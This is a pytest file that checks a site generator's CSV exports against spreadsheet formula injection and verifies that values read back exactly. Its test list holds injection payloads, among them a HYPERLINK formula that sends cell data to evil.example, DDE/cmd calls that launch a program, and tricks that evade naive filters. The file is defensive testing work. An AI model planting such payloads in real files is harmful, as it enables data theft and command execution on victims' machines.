"""CSV files are made for spreadsheet programs: no cell may start a formula, and every value comes back.

Every string of the Big List of Naughty Strings, and formula tricks beyond it, goes through every
text column of every CSV file (and a notice's body); the files are read back with Python's csv
module. A cell that a spreadsheet program could take for a formula has a ' in front, one that
starts with ' too, and removing one leading ' gives exactly the value; all.json is never prefixed.
"""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import html
import io
import json
import re
import unicodedata
from typing import NamedTuple

import markdown
import pytest
import yaml
from conftest import Project, new_project
from sites import data_files
from test_hostile_strings import USABLE, _write_content

from generator.export import BOM, JSON_PATH, TABLES, columns, format_cell, read_cell, rows_of
from generator.link import Site, link
from generator.pipeline import check
from generator.redact import redact
from generator.settings import Settings, load_settings
from generator.urls import site_urls

# Formulas, and the ways around a naive check: white space first, full-width signs, a cell split by
# a separator the spreadsheet program may use (';', tab), quotes.
TRICKS = [
    "=1+2",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-1+2",
    "@SUM(1+2)",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
    " =1+2",
    "\u3000=1+2",
    "\xa0=1+2",
    "\uff1d1+2",
    "\uff0b1",
    "\uff0d1",
    "\uff201",
    "\ufeff=1+2",
    "\u200b=1+2",
    "\x00=1+2",  # LibreOffice 7.4 drops the NUL and runs the formula
    "\x01=1+2",
    "\x7f=1+2",
    "\xad=1+2",
    "\u200e=1+2",
    "\u202e=1+2",
    "'=1+2",
    "'",
    "''",
    "'quoted",
    "a;=1+2",
    "a\t=1+2",
    "a,=1+2",
    '"=1+2',
    '=1+2";=1+2',
    "a\n=1+2",
    'DDE("cmd";"/C calc";"!A0")',
]
STRINGS = USABLE + TRICKS
FORMULA_SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"
AS_OF = dt.date(2022, 12, 31)


def _could_start_a_formula(cell: str) -> bool:
    """What a spreadsheet program might read as a formula, checked independently of export.py."""
    if not cell:
        return False
    if cell[0] in "\t\r\n":
        return True
    # Skip what a program may drop or trim: white space, control and format characters.
    stripped = "".join(c for c in cell if not (c.isspace() or unicodedata.category(c) in ("Cc", "Cf")))
    return bool(stripped) and stripped[0] in FORMULA_SIGNS


def _write_notices(project: Project, texts: list[str]) -> None:
    folder = project.root / "content" / "notices"
    folder.mkdir(parents=True, exist_ok=True)
    for index, text in enumerate(texts):
        front = {"visibility": "public", "title": text, "date": "2022-01-08", "issuer": f"T-{index:04d}"}
        dumped = yaml.safe_dump(front, allow_unicode=True, sort_keys=False)
        (folder / f"N-{index:04d}.md").write_text(f"---\n{dumped}---\n{text}\n", encoding="utf-8")


class Built(NamedTuple):
    """The settings, and per audience the linked site and its data files."""

    settings: Settings
    sites: dict[str, tuple[Site, dict[str, str]]]


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Built:
    project = new_project(tmp_path_factory.mktemp("csv") / "p")
    _write_content(project.root, STRINGS)
    _write_notices(project, STRINGS)
    settings = load_settings(project.root / "mkdocs.yml")
    records, report = check(settings, AS_OF)
    assert not report.errors, "\n".join(d.format() for d in report.errors[:5])
    sites = {}
    for audience in ("public", "internal"):
        site = link(redact(records, audience), AS_OF, audience)
        sites[audience] = (site, {page.path: page.text for page in data_files(site, settings)})
    return Built(settings, sites)


def _rows(text: str) -> list[list[str]]:
    assert text.startswith(BOM)  # values may hold U+FEFF too (the list has some): readers drop only the first
    return list(csv.reader(io.StringIO(text[len(BOM) :], newline="")))


@pytest.mark.parametrize("audience", ["public", "internal"])
def test_no_cell_can_start_a_formula(built: Built, audience: str) -> None:
    _, files = built.sites[audience]
    cells = 0
    for table in TABLES.values():
        for row in _rows(files[table.path])[1:]:
            for cell in row:
                cells += 1
                assert cell.startswith("'") or not _could_start_a_formula(cell), (table.name, cell)
    assert cells > 20 * len(STRINGS)


def _exact(value: object) -> str:
    """A column's value as text, as the cell must read back: what format_cell writes, less the guard."""
    if isinstance(value, str):
        return value
    return format_cell(value)  # numbers, dates, booleans: never guarded


@pytest.mark.parametrize("audience", ["public", "internal"])
def test_every_cell_reads_back_as_its_exact_value(built: Built, audience: str) -> None:
    """Each file read with the csv module, less one leading ', is each column's value, row for row."""
    site, files = built.sites[audience]
    urls = site_urls(built.settings)
    guarded = set()
    for table in TABLES.values():
        rows = _rows(files[table.path])
        cols = columns(table, audience)
        assert rows[0] == [c.name for c in cols]
        expected = [
            row
            for record in site.of_kind(table.kind)
            for row in rows_of(site, built.settings, urls, record, table, {})
        ]
        assert len(rows) - 1 == len(expected), table.name
        for cells, row in zip(rows[1:], expected, strict=True):
            for cell, column in zip(cells, cols, strict=True):
                assert read_cell(cell) == _exact(column.get(row)), (table.name, column.name, cell)
                if cell != _exact(column.get(row)):
                    guarded.add((table.name, column.name))
    # The tricks were guarded in the text columns of every file.
    assert {name for name, _ in guarded} == set(TABLES)
    assert len(guarded) > 25


def test_json_keeps_every_value_exactly(built: Built) -> None:
    _, files = built.sites["internal"]
    document = json.loads(files[JSON_PATH])
    titles = {item["id"]: item["title"] for item in document["records"]["finding"]}
    for index, text in enumerate(STRINGS):
        assert titles[f"F-{index:04d}"] == text
    bodies = {item["id"]: item["body"] for item in document["records"]["notice"]}
    assert bodies[f"N-{STRINGS.index('=1+2'):04d}"] == "=1+2\n"


def test_format_cell_and_read_cell_agree() -> None:
    for text in [
        *STRINGS,
        "",
        "plain",
        "1-2",
        "a=b",
        "中文",
        "－",
        "-",
        "\U000e0001=1",
        "\u2066=1",
        "\x00\x00+1",
    ]:
        cell = format_cell(text)
        assert read_cell(cell) == text
        assert cell.startswith("'") or not _could_start_a_formula(cell), text
    assert format_cell("plain") == "plain" and format_cell("中文 = 汉字") == "中文 = 汉字"
    assert format_cell(-3) == "'-3"  # no column holds a negative number; if one did, it would read back
    assert (
        format_cell(None) == ""
        and format_cell(True) == "true"
        and format_cell(dt.date(2022, 1, 2)) == "2022-01-02"
    )


def test_every_cell_is_quoted(built: Built) -> None:
    """A spreadsheet program that splits on ';' or tabs (Excel does in many locales) keeps each cell whole."""
    _, files = built.sites["public"]
    text = files["data/findings.csv"][len(BOM) :]
    for line in text.split("\r\n")[:50]:
        if line:
            assert line.startswith('"') and line.endswith('"'), line
    trick = f"F-{STRINGS.index('a;=1+2'):04d}"
    assert f'"{trick}","a;=1+2",' in text


def test_the_data_page_says_how_to_read_a_value_back() -> None:
    from sites import sample_site

    from generator.export import data_page

    def shown(page: str) -> str:
        return html.unescape(re.sub(r"<[^>]+>", "", markdown.markdown(page, extensions=["tables"])))

    site, settings = sample_site("public")
    page = shown(data_page(site, settings).text)
    assert "A value that begins with =, +, - or @ (also the full-width ＝＋－＠, or after spaces)" in page
    assert "remove one ' from the start of every cell that begins with one" in page
    assert "all.json holds every value exactly as written" in page
    page = shown(data_page(site, dataclasses.replace(settings, language="zh")).text)
    assert "去掉开头的一个 ' 即可" in page and "全角的＝＋－＠" in page
    # The files listed with the full-width colon, as Chinese text writes it (": " before).
    assert "all.json：" in page and "ledger.xlsx：" in page and "progress-notice.docx：" in page
    assert "all.json:" not in page
